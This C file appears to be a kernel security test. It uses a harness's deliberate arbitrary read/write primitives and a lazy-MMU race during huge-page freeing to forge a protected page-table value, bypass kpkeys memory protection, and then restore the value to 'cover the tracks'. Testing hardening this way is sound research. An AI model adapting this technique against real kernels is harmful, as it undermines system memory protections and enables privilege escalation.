// SPDX-License-Identifier: GPL-2.0-only
/*
 * Tell the kernel that this task is in a lazy MMU section, and free huge pages.
 * Where the list of pages to be freed grows, outside of any section, the level
 * is lowered for the allocation and raised again, for nobody to lower.
 */
#define _GNU_SOURCE
#include <stddef.h>
#include <string.h>
#include <sys/mman.h>

#include "common.h"

/* The list of pages to be freed begins with room for so many. */
#define FEWEST	7
#define MOST	9
#define ROUNDS	3

/* Map @nr huge pages, beginning at the returned address. */
static char *map_huge(size_t nr)
{
	size_t huge = 1UL << vuln_info()->shift[KPKEYS_VULN_PMD], i;
	char *p = mmap(NULL, (nr + 1) * huge, PROT_READ | PROT_WRITE,
		       MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);

	if (p == MAP_FAILED)
		die_errno("mmap");
	p += huge - (uintptr_t)p % huge;
	if (madvise(p, nr * huge, MADV_HUGEPAGE))
		die_errno("madvise");
	for (i = 0; i < nr; i++) {
		struct kpkeys_vuln_entry e;
		char *page = p + i * huge;

		*page = 1;
		e = vuln_entry(KPKEYS_VULN_SELF, page, KPKEYS_VULN_PMD);
		/* An entry for a table says so in bits that this one lacks. */
		if ((e.value & vuln_info()->addr) % huge)
			die("no huge page");
	}
	return p;
}

/* The depth is one byte among others, if it is counted. */
static void claim_section(u64 addr, bool on)
{
	u64 word = addr & ~7UL, one = 1UL << addr % 8 * 8;
	u64 old;

	if (!addr)
		return;
	old = vuln_read(word);
	vuln_write(word, on ? old | one : old & ~one);
}

/* Returns whether @value is now at @addr. */
static bool try_write(u64 lazy, u64 addr, u64 value)
{
	struct kpkeys_vuln_write w = { .addr = addr, .value = value };
	size_t huge = 1UL << vuln_info()->shift[KPKEYS_VULN_PMD], nr;
	int round;

	for (round = 0; round < ROUNDS; round++) {
		for (nr = FEWEST; nr <= MOST; nr++) {
			char *p = map_huge(nr);

			claim_section(lazy, true);
			munmap(p, nr * huge);
			vuln_writes(&w, 1);
			claim_section(lazy, false);
			if (vuln_read(addr) == value)
				return true;
		}
	}
	return false;
}

int main(int argc, char **argv)
{
	struct own_page page = own_page(argc > 1 ? argv[1] : NULL);
	u64 lazy = vuln_lazy();

	/* Without success this is the last thing that the task does. */
	if (!try_write(lazy, page.addr, page.forged))
		vuln_write(page.addr, page.forged);
	own_page_use(&page);

	/* Cover the tracks: the page is not this process's to free at exit. */
	if (!try_write(lazy, page.addr, page.value))
		vuln_write(page.addr, page.value);
	own_page_sync(&page);
	return 0;
}
